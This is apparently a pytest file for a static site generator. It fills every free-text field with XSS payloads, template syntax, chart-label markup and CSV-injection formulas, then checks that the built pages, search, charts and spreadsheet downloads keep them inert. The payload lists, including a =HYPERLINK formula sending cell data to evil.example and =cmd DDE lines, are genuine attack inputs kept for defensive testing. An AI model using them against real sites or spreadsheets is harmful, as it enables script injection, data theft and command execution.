"""Injection: every free-text field of a repository holds payloads, the site builds, and nothing runs.

The injection repository is the base fixture with every free-text value (names, titles, summaries, measures,
answers, notes …) replaced by a unique marker and payloads: <script>, <img onerror>, javascript: links,
Markdown links and images, raw HTML blocks, {{ }} and {% %} template syntax, MkDocs attribute lists and emoji
shortcodes, plus breakouts from attributes and inline scripts. The circular's Markdown holds them too. Every
name also holds the markup Plotly would follow in a chart label (<a href>, <span style>, <img>), and every
third value starts with a spreadsheet formula (=HYPERLINK, =cmd|, @SUM, +, -).

Proven here: the repository is valid data; the site builds; the built HTML has no live payload (no event
handler, javascript: URL, foreign source or script carrying one) and every page's Content-Security-Policy
allows exactly its inline scripts; in the real browser no dialog opens, no request leaves the local server,
no javascript: URL is clickable, no policy is violated, chart labels show as text, and each value shows as
literal text on a page; the search index holds the literal text, and searching for it runs nothing; no CSV
cell starts a formula and no XLSX cell is one.
"""

from __future__ import annotations

import json
import os
import re
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path
from typing import Any
from urllib.parse import urlparse

import pytest

from generator.cli import main
from generator.core.paths import RepoPaths
from generator.loading.yamlstrict import dump_yaml, load_bytes
from generator.rules import validate
from generator.site.opendata import FORMULA_START, to_csv, to_xlsx
from helpers import guarded_context, launch_chromium, make_repo, policy_problems, serve_directory

PAYLOADS = [
    '<script>alert("MARK")</script>',
    '<img src=x onerror=alert("MARK")>',
    '[点我](javascript:alert("MARK"))',
    "![图](http://evil.example/MARK.png)",
    "<a href=\"javascript:alert('MARK')\">链接</a>",
    "{{ config.site_name }}{% raw %}",
    "{: onclick=\"alert('MARK')\" }",
    ":smile: :material-alert:",
    '"><svg onload=alert("MARK")>',
    '</script><script>alert("MARK")</script>',
    '<iframe src="http://evil.example/MARK"></iframe>',
    "<style>*{background:url(http://evil.example/MARK)}</style>",
    "&lt;b&gt;&amp;",
    '<javascript:alert("MARK")>',
    "'-alert(\"MARK\")-'",
]
# Plotly reads these as markup in a chart's labels and fetches their URLs; names label the county chart, so
# every name holds all three (whatever fits after them rotates through PAYLOADS)
MARKUP = ['<a href="https://evil.example/MARK">a</a>', '<span style="background:url(https://evil.example/MARK)">s</span>',
          "<img src=https://evil.example/MARK>"]
# spreadsheet formulas (OWASP CSV injection) run only at the start of a cell: every third value starts with one
FORMULAS = ['=HYPERLINK("https://evil.example/MARK?"&A1,"点我")', "=cmd|' /C calc'!A0 MARK",
            "@SUM(1+1)*cmd|' /C calc'!A0 MARK", "+1+1+MARK", "-1+1+MARK"]
NAMES = {"name", "short_name"}
# keys whose string values are free text (ids, dates, enums and references are not)
FREE_TEXT = {"name", "short_name", "title", "owner", "content", "progress_target", "summary", "measures", "note",
             "why", "reason", "relocation", "next_steps", "county_leader_note", "address"}
INTERNAL = {"team", "internal_notes"}  # never published: tests/test_build.py proves it with sentinels
CHARS = {"name": 200, "short_name": 200, "title": 200, "owner": 200, "address": 200, "county_leader_note": 200,
         "reason": 200}  # the rest allow 5000
ROOT = Path(__file__).resolve().parent.parent


def _payload_for(mark: str, n: int, limit: int, key: str = "") -> str:
    """The marker and as many payloads as fit, starting at a rotating position so each payload is used; a
    name holds MARKUP, every third value starts with a formula."""
    out = mark
    if key in NAMES:
        out = " ".join([mark, *(m.replace("MARK", mark) for m in MARKUP)])
    formula = FORMULAS[(n // 3) % len(FORMULAS)].replace("MARK", mark)
    if n % 3 == 0 and len(formula) + 1 + len(out) <= limit:
        out = formula + " " + out
    for k in range(len(PAYLOADS)):
        piece = PAYLOADS[(n + k) % len(PAYLOADS)].replace("MARK", mark)
        if len(out) + 1 + len(piece) > limit:
            break
        out += " " + piece
    return out


seen: dict[tuple[str, str], str] = {}


def _inject(value: Any, at: tuple[Any, ...], values: dict[str, str], counter: list[int]) -> Any:
    if isinstance(value, dict):
        out = {}
        for key, sub in value.items():
            if key in INTERNAL:
                out[key] = sub
            elif key in FREE_TEXT and isinstance(sub, str) and (key, sub) in seen:
                out[key] = seen[(key, sub)]  # the same text gets the same payload: an answer is repeated unchanged
            elif key in FREE_TEXT and isinstance(sub, str):
                counter[0] += 1
                mark = f"Q{counter[0]:03d}Q"
                out[key] = seen[(key, sub)] = _payload_for(mark, counter[0], CHARS.get(key, 5000), key)
                values[mark] = out[key]
            else:
                out[key] = _inject(sub, (*at, key), values, counter)
        return out
    if isinstance(value, list):
        return [_inject(v, (*at, i), values, counter) for i, v in enumerate(value)]
    return value


def make_injection_repo(tmp: Path) -> tuple[Path, dict[str, str]]:
    """The base repository with payloads in every free-text field; returns it and {marker: value}."""
    repo = make_repo(tmp)
    values: dict[str, str] = {}
    counter = [0]
    seen.clear()
    for path in sorted((repo / "data").rglob("*.yaml")):
        raw = path.read_bytes()
        doc, problems = load_bytes(path.name, raw)
        assert doc is not None, problems
        header = raw.decode("utf-8").split("\n", 1)[0] + "\n"
        path.write_text(dump_yaml(_inject(doc.data, (), values, counter), header), encoding="utf-8")
    circular = repo / "data" / "circulars" / "2015-Q1.md"
    lines = [f"- {_payload_for(f'C{i:02d}C', i, 5000)}" for i in range(3)]
    block = '<div onclick="alert(\'C90C\')">C90C 块</div>'
    circular.write_text(circular.read_text(encoding="utf-8") + "\n" + "\n".join(lines) + f"\n\n{block}\n\n"
                        "# C91C <script>alert('C91C')</script>\n", encoding="utf-8")
    for i, line in enumerate(lines):
        values[f"C{i:02d}C"] = line[2:]
    return repo, values


@pytest.fixture(scope="module")
def injected(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, dict[str, str]]:
    return make_injection_repo(tmp_path_factory.mktemp("inj"))


@pytest.fixture(scope="module")
def site(injected: tuple[Path, dict[str, str]], tmp_path_factory: pytest.TempPathFactory) -> Path:
    repo, _ = injected
    out = tmp_path_factory.mktemp("site") / "site"
    saved = os.environ.pop("SOURCE_DATE_EPOCH", None)
    try:
        assert main(["--root", str(repo), "build", "--out", str(out), "--jobs", "1"]) == 0
    finally:
        os.environ.pop("SOURCE_DATE_EPOCH", None)
        if saved is not None:
            os.environ["SOURCE_DATE_EPOCH"] = saved
    return out


def test_every_payload_is_planted(injected: tuple[Path, dict[str, str]]) -> None:
    _, values = injected
    assert len(values) >= 30
    everything = "\n".join(values.values())
    for payload in PAYLOADS + MARKUP:
        assert payload.split("MARK")[0] in everything, payload
    for formula in FORMULAS:
        assert any(v.startswith(formula.split("MARK")[0]) for v in values.values()), formula


def test_injection_repository_is_valid_data(injected: tuple[Path, dict[str, str]]) -> None:
    repo, _ = injected
    assert validate(RepoPaths(repo), jobs=1).errors == []


class _Live(HTMLParser):
    """Collects what a browser would run or fetch: handlers, javascript: URLs, foreign sources, scripts."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self.in_script = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        for name, value in attrs:
            value = value or ""
            if name.startswith("on") and re.search(r"[QC]\d+[QC]", value):
                self.found.append(f"<{tag} {name}={value!r}>")
            if name in ("href", "src", "action", "formaction", "xlink:href", "data") \
                    and value.strip().lower().startswith(("javascript:", "vbscript:", "data:text/html")):
                self.found.append(f"<{tag} {name}={value!r}>")
            if name in ("src", "href") and "evil.example" in value:
                self.found.append(f"<{tag} {name}={value!r}>")
            if name == "style" and "evil.example" in value:
                self.found.append(f"<{tag} style={value!r}>")
        if tag in ("iframe", "svg", "style") and any("evil" in (v or "") for _, v in attrs):
            self.found.append(f"<{tag}>")
        self.in_script = tag == "script"

    def handle_endtag(self, tag: str) -> None:
        if tag == "script":
            self.in_script = False

    def handle_data(self, data: str) -> None:
        if self.in_script and re.search(r"alert\(\"[QC]\d+[QC]\"\)|alert\('[QC]\d+[QC]'\)", data) and \
                not re.search(r"\\u003c|\\\"|&lt;", data):
            self.found.append(f"script: {data[:120]!r}")


def test_built_html_has_no_live_payload(site: Path) -> None:
    pages = sorted(site.rglob("*.html"))
    assert len(pages) > 10
    offenders: dict[str, list[str]] = {}
    for page in pages:
        parser = _Live()
        parser.feed(page.read_text(encoding="utf-8"))
        if parser.found:
            offenders[str(page.relative_to(site))] = parser.found[:5]
    assert offenders == {}


def test_every_page_has_a_policy_for_exactly_its_scripts(site: Path) -> None:
    assert policy_problems(site) == []


def test_no_style_or_iframe_from_data(site: Path) -> None:
    for page in site.rglob("*.html"):
        text = page.read_text(encoding="utf-8")
        assert "<style>*{background" not in text, page
        assert "<iframe src=\"http://evil" not in text, page
        assert "<svg onload" not in text, page


def _normal(text: str) -> str:
    return re.sub(r"\s+", " ", text.replace("\u200b", "")).strip()


def test_search_index_holds_the_literal_text(site: Path, injected: tuple[Path, dict[str, str]]) -> None:
    _, values = injected
    index = json.loads((site / "search" / "index.json").read_text(encoding="utf-8"))
    texts = [_normal(d["t"] + " " + d["x"]) for d in index]  # search.js writes these as text, never as markup
    indexed = [mark for mark in values if any(mark in t for t in texts)]
    assert len(indexed) >= len(values) // 3  # a page is indexed up to its first screenfuls of text
    for mark in indexed:
        holders = [t for t in texts if mark in t]
        value = _normal(values[mark])
        # the whole value as typed, or as much of it as fits before the page's text is cut
        assert any(value in t or (value[:20] in t and value.startswith(t[t.index(value[:20]):])) for t in holders), \
            (mark, values[mark], holders[0][:300])


# ---------------------------------------------------------------- in the browser

@pytest.fixture(scope="module")
def server(site: Path) -> Iterator[str]:
    with serve_directory(site) as base:
        yield base


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    with launch_chromium() as b:
        yield b


_DOM_CHECK = """() => {
    const bad = [];
    for (const el of document.querySelectorAll('*')) {
        for (const attr of el.attributes) {
            const v = attr.value || '';
            if (attr.name.startsWith('on') && /[QC]\\d+[QC]/.test(v)) bad.push(el.tagName + ' ' + attr.name);
            if (/^(href|src|action|formaction|xlink:href)$/.test(attr.name) && /^\\s*(javascript|vbscript):/i.test(v))
                bad.push(el.tagName + ' ' + attr.name + '=' + v);
        }
    }
    for (const a of document.querySelectorAll('a')) {
        if (a.protocol === 'javascript:') bad.push('clickable ' + a.href);
    }
    return bad;
}"""


class _Watch:
    def __init__(self, page: Any, base: str) -> None:
        self.dialogs: list[str] = []
        self.foreign: list[str] = []
        self.errors: list[str] = []
        host = urlparse(base).netloc

        def on_dialog(dialog: Any) -> None:
            self.dialogs.append(dialog.message)
            dialog.dismiss()

        page.on("dialog", on_dialog)
        page.on("pageerror", lambda e: self.errors.append(str(e)))
        page.on("request", lambda r: None if urlparse(r.url).netloc in (host, "") or r.url.startswith(("data:", "blob:"))
                else self.foreign.append(r.url))
        page.add_init_script("window.__ran = []; window.alert = (m) => { window.__ran.push(String(m)); };")


@pytest.mark.browser
def test_no_payload_runs_and_each_shows_as_text(browser: Any, server: str, site: Path,
                                                injected: tuple[Path, dict[str, str]]) -> None:
    _, values = injected
    shown: dict[str, str] = {}
    pages = sorted(p.relative_to(site).parent.as_posix() for p in site.rglob("index.html"))
    with guarded_context(browser, locale="zh-CN") as context:
        page = context.new_page()
        watch = _Watch(page, server)
        for rel in pages:
            page.goto(server + ("" if rel == "." else rel + "/"), wait_until="load")
            page.wait_for_timeout(50)
            assert page.evaluate(_DOM_CHECK) == [], rel
            assert page.evaluate("window.__ran") == [], rel
            text = _normal(page.inner_text("body"))
            for mark in values:
                if mark in text:
                    shown.setdefault(mark, "")
                    if _normal(values[mark]) in text:
                        shown[mark] = rel
    assert watch.dialogs == [] and watch.foreign == [] and watch.errors == [], \
        (watch.dialogs, watch.foreign, watch.errors)
    missing = sorted(mark for mark in values if mark not in shown)
    not_literal = sorted(mark for mark, where in shown.items() if not where)
    assert not_literal == [], [(m, values[m]) for m in not_literal]
    # Shown nowhere, by design: the daily urging logs (a project page says how many days they cover), a
    # problem's earlier wording once a later report has restated it (the page shows the latest report), and a
    # post holder appointed after the as-of date (not known on it).
    repo, _ = injected
    unshown = {mark: [f.relative_to(repo).as_posix() for f in repo.rglob("*.yaml") if mark in f.read_text("utf-8")]
               for mark in missing}
    assert all(files and all((f.startswith("data/dispatches/") and "kind: urging" in (repo / f).read_text("utf-8"))
                             or f in ("data/reports/2015-02/2015-zj-01.yaml", "data/org/posts.yaml") for f in files)
               for files in unshown.values()), unshown


@pytest.mark.browser
def test_searching_for_a_payload_runs_nothing(browser: Any, server: str) -> None:
    with guarded_context(browser, locale="zh-CN") as context:
        page = context.new_page()
        watch = _Watch(page, server)
        page.goto(server + "search/", wait_until="load")
        results = ""
        for query in ("script", "onerror", "javascript", "evil.example", "HYPERLINK", "Q001Q", "alert"):
            page.fill("#search-q", query)
            page.wait_for_function("() => document.getElementById('search-count').textContent.startsWith('找到')")
            assert page.evaluate(_DOM_CHECK) == [], query
            assert page.evaluate("window.__ran") == [], query
            results += page.inner_text("#search-results")
    assert watch.dialogs == [] and watch.foreign == [] and watch.errors == []
    assert "<" in results or results == ""  # a payload found by search shows as text, tags and all


def _county_names(repo: Path) -> list[str]:
    doc, problems = load_bytes("counties.yaml", (repo / "data" / "org" / "counties.yaml").read_bytes())
    assert doc is not None, problems
    return [str(c["name"]) for c in doc.data]


def _point_at(page: Any, selector: str) -> None:
    """Move the mouse over the first match (Plotly's drag layer lies above the bars, so no .hover())."""
    target = page.locator(selector).first
    target.scroll_into_view_if_needed()
    box = target.bounding_box()
    page.mouse.move(box["x"] + box["width"] / 2, box["y"] + box["height"] / 2)


@pytest.mark.browser
def test_chart_labels_are_text_and_fetch_nothing(browser: Any, server: str,
                                                 injected: tuple[Path, dict[str, str]]) -> None:
    """County names label the county chart and the hover text; holding <a href>, <span style> and <img>
    with evil.example URLs, they show as typed, and neither the home page nor a project page (its chart)
    asks any host but the local server for anything."""
    repo, _ = injected
    counties = _county_names(repo)
    assert counties and all(all(m.split("MARK")[0] in name for m in MARKUP) for name in counties)
    with guarded_context(browser, viewport={"width": 1280, "height": 900}, locale="zh-CN") as context:
        page = context.new_page()
        watch = _Watch(page, server)
        page.goto(server, wait_until="load")
        page.wait_for_selector("#chart-county svg.main-svg")
        ticks = [_normal(t) for t in page.locator("#chart-county .ytick text").all_text_contents()]
        assert ticks and set(ticks) <= {_normal(n) for n in counties}, ticks
        _point_at(page, "#chart-county .bars path")
        page.wait_for_selector("#chart-county .hoverlayer .hovertext")
        hover = _normal(page.locator("#chart-county .hoverlayer .hovertext").text_content() or "")
        assert any(_normal(n) in hover for n in counties), hover
        markup = page.evaluate("""() => Array.from(document.querySelectorAll('.js-plotly-plot *')).filter(
            el => el.tagName.toLowerCase() === 'a' || /evil\\.example/.test(el.getAttribute('style') || '')
                  || /evil\\.example/.test(el.getAttribute('href') || el.getAttribute('xlink:href') || '')
        ).map(el => el.outerHTML.slice(0, 120))""")
        assert markup == []
        page.goto(server + "projects/2015-zj-01/", wait_until="load")
        page.wait_for_selector("#chart-project svg.main-svg")
        _point_at(page, "#chart-project .bars path")
        page.wait_for_selector("#chart-project .hoverlayer .hovertext")
    assert watch.dialogs == [] and watch.foreign == [] and watch.errors == [], \
        (watch.dialogs, watch.foreign, watch.errors)


def test_spreadsheet_writers_neutralise_every_formula_start() -> None:
    """OWASP CSV injection: a text cell starting with = + - @ tab or CR gets a leading ' in the CSV; in the
    XLSX every text cell is a string cell holding exactly the text; numbers stay numbers in both."""
    import csv
    import io
    from datetime import datetime

    from openpyxl import load_workbook

    texts = ['=HYPERLINK("https://evil.example/x?"&A1,"点我")', "=cmd|' /C calc'!A0", "@SUM(1+1)", "+1+1", "-1+1",
             "\tcalc", "\rcalc", "#N/A", "正常的文字"]
    numbers = [-5, 3.25, 0]
    data = to_csv([*texts, "x"], [[*texts, *numbers]])
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert rows[0][:len(texts)] == rows[1][:len(texts)]  # headers go through the same function
    assert rows[1] == ["'" + t if t.startswith(FORMULA_START) else t for t in texts] + ["-5", "3.25", "0"]
    book = load_workbook(io.BytesIO(to_xlsx("表", [*texts, "x"], [[*texts, *numbers]], {"说明": "=1+1"},
                                             datetime(2015, 10, 20))))
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
    assert all(c.data_type != "f" for c in cells)
    values = [c.value for c in book.worksheets[0][2]]
    # XML reads a raw CR as LF (no data holds one: the loader reads CR as LF before anything else)
    assert values == [t.replace("\r", "\n") for t in texts] + numbers
    assert [c.data_type for c in book.worksheets[0][2]] == ["s"] * len(texts) + ["n"] * len(numbers)
    assert book["说明"]["B1"].value == "=1+1" and book["说明"]["B1"].data_type == "s"


def _number(cell: str) -> bool:
    return re.fullmatch(r"-?\d+(\.\d+)?([eE][-+]?\d+)?", cell) is not None


def test_downloads_start_no_formula(site: Path, injected: tuple[Path, dict[str, str]]) -> None:
    """In the built CSVs no text cell starts a formula and each formula-like value is there with its ' prefix;
    in the XLSX files no cell is a formula and each such value is there exactly as typed."""
    import csv
    import io

    from openpyxl import load_workbook

    _, values = injected
    risky = {v for v in values.values() if v.startswith(FORMULA_START)}
    assert len(risky) >= 5
    cells: list[str] = []
    for path in sorted((site / "downloads").glob("*.csv")):
        cells += [c for row in csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline="")) for c in row]
    live = [c for c in cells if c.startswith(FORMULA_START) and not _number(c)]
    assert live == []
    in_csv = {c[1:] for c in cells if c.startswith("'")} & risky
    assert len(in_csv) >= 5  # names, contents and problems start with formulas in the tables
    xlsx: list[str] = []
    for path in sorted((site / "downloads").glob("*.xlsx")):
        book = load_workbook(path)
        for ws in book.worksheets:
            for row in ws.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (path.name, cell.coordinate, cell.value)
                    if isinstance(cell.value, str):
                        xlsx.append(cell.value)
    assert in_csv <= set(xlsx)


def _strings(value: Any) -> list[str]:
    if isinstance(value, str):
        return [value]
    if isinstance(value, dict):
        return [s for v in value.values() for s in _strings(v)]
    if isinstance(value, list):
        return [s for v in value for s in _strings(v)]
    return []


def test_downloads_and_feed_hold_the_literal_text(site: Path, injected: tuple[Path, dict[str, str]]) -> None:
    """Every payload that reaches a download reaches it whole and as plain text: CSV cells, JSON strings,
    XLSX cells and calendar entries carry the value exactly; the feed stays well-formed XML."""
    import csv
    import io

    import feedparser
    from icalendar import Calendar
    from openpyxl import load_workbook

    _, values = injected
    cells: list[str] = []
    for path in sorted((site / "downloads").glob("*.csv")):
        cells += [c for row in csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"))) for c in row]
    for path in sorted((site / "downloads").glob("*.json")):
        cells += _strings(json.loads(path.read_text(encoding="utf-8")))
    for path in sorted((site / "downloads").glob("*.xlsx")):
        wb = load_workbook(path, read_only=True)
        cells += [str(c) for ws in wb.worksheets for row in ws.iter_rows(values_only=True) for c in row
                  if isinstance(c, str)]
    for path in sorted((site / "downloads" / "calendar").glob("*.ics")):
        for event in Calendar.from_ical(path.read_bytes()).walk("VEVENT"):
            cells += [str(event.get("SUMMARY")), str(event.get("DESCRIPTION"))]
    reached = [mark for mark in values if any(mark in c for c in cells)]
    assert len(reached) >= 20  # names, contents, problems, progress … go out as open data
    for mark in reached:
        assert any(values[mark] in c for c in cells if mark in c), (mark, values[mark])
    feed = feedparser.parse((site / "feed.xml").read_bytes())
    assert feed.bozo == 0 and feed.entries
    assert "<script" not in (site / "feed.xml").read_text(encoding="utf-8")
